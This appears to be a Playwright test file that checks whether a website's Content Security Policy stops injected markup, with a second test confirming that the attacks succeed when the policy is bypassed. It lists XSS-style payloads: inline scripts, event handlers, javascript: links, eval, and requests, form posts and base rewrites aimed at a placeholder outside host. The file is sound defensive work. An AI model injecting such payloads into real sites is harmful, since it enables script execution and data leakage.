"""Markup that an attacker got into a page runs nothing and sends nothing: the policy forbids it."""

import pytest

from tests.waiting import until

PAGES = ["/en/", "/en/cases/KZ-0009/", "/ru/cases/", "/en/statistics/", "/desk/login/"]
ELSEWHERE = "http://elsewhere.example/"

# Each tries to set `ran`, or to reach another host.
ATTACKS = {
    "a script in the page": "document.body.append(made('script', {textContent: 'ran = 1'}))",
    "a handler in an attribute": "page.innerHTML = `<img src='data:,' onerror='ran = 1'>`",
    "a link that is a script": "click(made('a', {href: 'javascript:ran = 1'}))",
    "a frame with a document": (
        "page.append(made('iframe', {srcdoc: '<script>top.ran = 1</script>'}))"
    ),
    "a text that is evaluated": "try { eval('ran = 1') } catch {}",
    "a text that becomes a function": "try { new Function('ran = 1')() } catch {}",
    "a text that is run later": "setTimeout('ran = 1')",
    "a script of another host": f"document.body.append(made('script', {{src: '{ELSEWHERE}'}}))",
    "a style of another host": (
        f"page.append(made('link', {{rel: 'stylesheet', href: '{ELSEWHERE}'}}))"
    ),
    "a picture of another host": f"page.append(made('img', {{src: '{ELSEWHERE}'}}))",
    "a request to another host": f"fetch('{ELSEWHERE}', {{mode: 'no-cors'}}).catch(() => 0)",
    "a form that sends to another host": (
        f"const form = made('form', {{action: '{ELSEWHERE}', method: 'post'}});"
        "page.append(form); form.submit()"
    ),
    "another base of all links": f"document.head.prepend(made('base', {{href: '{ELSEWHERE}'}}))",
}
HELP = """
    const page = document.querySelector("main") || document.body;
    const made = (tag, given) => Object.assign(document.createElement(tag), given);
    const click = link => { page.append(link); link.click(); };
"""


class Injected:
    """A page into which one of the attacks was put."""

    def __init__(self, context, path, attack):
        self.path, self.asked = path, []
        self.tab = context.new_page()
        self.tab.route(f"{ELSEWHERE}**", self._refuse)
        self.tab.goto(path)
        # In a task of its own: one that leaves the page would take the answer with it.
        self.tab.evaluate(f"() => setTimeout(() => {{ {HELP} {attack} }})")

    def _refuse(self, route):
        self.asked.append(route.request.url)
        route.abort()

    def worked(self):
        """Whether it ran, left the page, or got as far as another host."""
        from playwright.sync_api import Error

        self.tab.wait_for_timeout(50)
        if self.asked or not self.tab.url.endswith(self.path):
            return True
        try:
            return self.tab.evaluate(
                "() => Boolean(window.ran || document.baseURI != location.href)"
            )
        except Error:
            return True  # it leaves the page just now


@pytest.mark.parametrize("path", PAGES)
def test_injected_markup_runs_nothing_and_asks_no_other_host(chromium, server, path):
    context = chromium.new_context(base_url=server.url)
    pages = {name: Injected(context, path, attack) for name, attack in ATTACKS.items()}
    assert [name for name, page in pages.items() if page.worked()] == []
    context.close()


def test_without_the_policy_all_of_it_would(chromium, server):
    """So that the others prove something."""
    context = chromium.new_context(base_url=server.url, bypass_csp=True)
    for name, attack in ATTACKS.items():
        until(Injected(context, "/en/", attack).worked, f"{name} has an effect")
    context.close()
